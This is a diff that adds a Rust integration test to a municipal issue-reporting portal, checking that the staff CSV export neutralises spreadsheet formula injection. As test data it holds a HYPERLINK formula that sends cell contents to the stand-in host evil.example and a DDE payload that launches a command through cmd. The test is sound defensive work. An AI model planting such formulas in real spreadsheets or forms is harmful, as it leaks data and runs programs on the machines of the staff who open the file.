@@ -962,6 +962,82 @@ async fn a_name_verified_by_the_eid_is_filled_in_and_cannot_be_changed() {
     assert!(!handling.body.contains("Someone Else"));
 }
 
+/// Text a citizen typed that a spreadsheet would run as a formula comes out
+/// of the staff export as text: a quote in front, the rest as typed. The
+/// coordinates, numbers of the module's own, stay numbers.
+#[tokio::test]
+async fn text_that_begins_like_a_formula_is_exported_as_text_a_spreadsheet_does_not_run() {
+    let (_smtp, _portal, staff) = portal_with_manager().await;
+    set_up_categories(&staff).await;
+    let citizen = Browser::new(staff.addr());
+    let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&O2,\"Details\")";
+    let filed = post(
+        &citizen,
+        "/report?category=lamp",
+        "/report",
+        &[
+            ("category", "lamp"),
+            ("description", hyperlink),
+            ("address", "-1+2 Husova"),
+            ("lat", "49.19522"),
+            ("long", "-16.60796"),
+            ("name", "@SUM(1+1)"),
+            ("email", "jana@example.cz"),
+            ("phone", "+420 601 234 567"),
+        ],
+    )
+    .await;
+    id_in(&filed, "/reports");
+    // A tab before the formula: the module trims it, the formula stays text.
+    let filed = post(
+        &citizen,
+        "/report?category=lamp",
+        "/report",
+        &[
+            ("category", "lamp"),
+            ("description", "\t+cmd|' /C calc'!A0"),
+            ("address", "Kounicova 5"),
+        ],
+    )
+    .await;
+    id_in(&filed, "/reports");
+
+    let csv = staff.get(&format!("{BASE}/export.csv")).await;
+    assert_eq!(csv.status, 200, "{}", csv.body);
+    let rows = csv.csv_rows();
+    assert_eq!(rows.len(), 3, "{}", csv.body);
+    let column = |name: &str| {
+        rows[0]
+            .iter()
+            .position(|c| c == name)
+            .unwrap_or_else(|| panic!("no column {name}: {:?}", rows[0]))
+    };
+    // Newest first.
+    let (tab, first) = (&rows[1], &rows[2]);
+    for (name, typed) in [
+        ("description", hyperlink),
+        ("address", "-1+2 Husova"),
+        ("name", "@SUM(1+1)"),
+        ("phone", "+420 601 234 567"),
+    ] {
+        assert_eq!(first[column(name)], format!("'{typed}"), "{name}");
+    }
+    assert_eq!(tab[column("description")], "'+cmd|' /C calc'!A0");
+    assert_eq!(first[column("lat")], "49.19522");
+    assert_eq!(first[column("long")], "-16.60796");
+    assert_eq!(first[column("email")], "jana@example.cz");
+    // Besides the coordinates, no cell of the file begins like a formula.
+    let numbers = [column("lat"), column("long")];
+    for row in &rows {
+        for (i, cell) in row.iter().enumerate() {
+            assert!(
+                numbers.contains(&i) || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+}
+
 /// The portal's public address: links in e-mails start with it.
 const PUBLIC: &str = "https://portal.test-city.example";
 
